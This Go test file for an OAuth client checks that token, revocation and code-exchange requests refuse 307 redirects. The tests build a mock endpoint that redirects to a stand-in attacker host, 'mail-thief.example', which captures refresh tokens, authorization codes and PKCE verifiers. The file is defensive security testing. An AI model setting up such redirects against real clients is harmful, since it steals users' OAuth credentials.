package oauth_test

import (
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"stamp/account"
	"stamp/oauth"
)

// redirectingProvider is a custom provider whose token and revocation
// endpoints (loopback, as checkEndpoint allows) answer 307 Temporary
// Redirect to a plain-http address on another host, which checkEndpoint
// would never accept as an endpoint. The other host is served on loopback
// too: the provider's HTTP client dials it there. It returns the provider
// and what the other host received.
func redirectingProvider(t *testing.T) (*oauth.Provider, func() string) {
	t.Helper()
	var mu sync.Mutex
	var got strings.Builder
	thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		got.WriteString(r.URL.String() + " " + string(b) + "\n")
		mu.Unlock()
		http.Error(w, `{"error":"invalid_request"}`, http.StatusBadRequest)
	}))
	t.Cleanup(thief.Close)
	endpoint := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://mail-thief.example"+r.URL.Path, http.StatusTemporaryRedirect)
	}))
	t.Cleanup(endpoint.Close)
	thiefAddr := thief.Listener.Addr().String()
	client := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
		if strings.HasPrefix(addr, "mail-thief.example:") {
			addr = thiefAddr // stands for a host on the network
		}
		return (&net.Dialer{}).DialContext(ctx, network, addr)
	}}}
	p, err := oauth.Resolve(context.Background(), oauth.Settings{Kind: oauth.Custom, ClientID: "stamp-test",
		AuthURL: endpoint.URL + "/auth", TokenURL: endpoint.URL + "/token", RevocationURL: endpoint.URL + "/revoke",
		Scopes: []string{"mail"}}, client)
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	return p, func() string { mu.Lock(); defer mu.Unlock(); return got.String() }
}

const attackRefreshToken = "attack-refresh-token-0123456789abcdef"

// TestAttackTokenEndpointRedirectSendsTheRefreshTokenElsewhere: a token
// endpoint that answers 307 makes the refresh resend its form, refresh
// token included, to wherever the redirect points, over plain http.
func TestAttackTokenEndpointRedirectSendsTheRefreshTokenElsewhere(t *testing.T) {
	p, stolen := redirectingProvider(t)
	secrets := account.NewSecretsWith(account.NewLimitedKeyring())
	if _, err := secrets.SaveRefreshToken(context.Background(), "me@example.com", "custom", attackRefreshToken); err != nil {
		t.Fatal(err)
	}
	_, err := oauth.NewManager(secrets).Session("me@example.com", p).Token(context.Background())
	t.Logf("Token: %v", err)
	if !errors.Is(err, oauth.ErrRedirected) {
		t.Errorf("Token after a redirect: %v, want ErrRedirected", err)
	}
	if s := stolen(); strings.Contains(s, attackRefreshToken) {
		t.Fatalf("the refresh token went to http://mail-thief.example:\n%s", s)
	}
}

// TestAttackRevocationRedirectSendsTheRefreshTokenElsewhere: the same for
// Sign out's revocation request.
func TestAttackRevocationRedirectSendsTheRefreshTokenElsewhere(t *testing.T) {
	p, stolen := redirectingProvider(t)
	err := oauth.Revoke(context.Background(), p, attackRefreshToken)
	t.Logf("Revoke: %v", err)
	if !errors.Is(err, oauth.ErrRedirected) {
		t.Errorf("Revoke after a redirect: %v, want ErrRedirected", err)
	}
	if s := stolen(); strings.Contains(s, attackRefreshToken) {
		t.Fatalf("the refresh token went to http://mail-thief.example:\n%s", s)
	}
}

// TestAttackCodeExchangeRedirectSendsTheCodeAndVerifierElsewhere: the
// same for the authorization code and PKCE verifier of a sign-in.
func TestAttackCodeExchangeRedirectSendsTheCodeAndVerifierElsewhere(t *testing.T) {
	p, stolen := redirectingProvider(t)
	s, err := oauth.Start(p, oauth.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	state := mustQuery(t, s.AuthURL(), "state")
	get(t, s.RedirectURL()+"?code=attack-code-42&state="+state, "")
	if got := stolen(); strings.Contains(got, "attack-code-42") || strings.Contains(got, "code_verifier") {
		t.Fatalf("the code exchange went to http://mail-thief.example:\n%s", got)
	}
}

func mustQuery(t *testing.T, raw, key string) string {
	t.Helper()
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	return u.Query().Get(key)
}
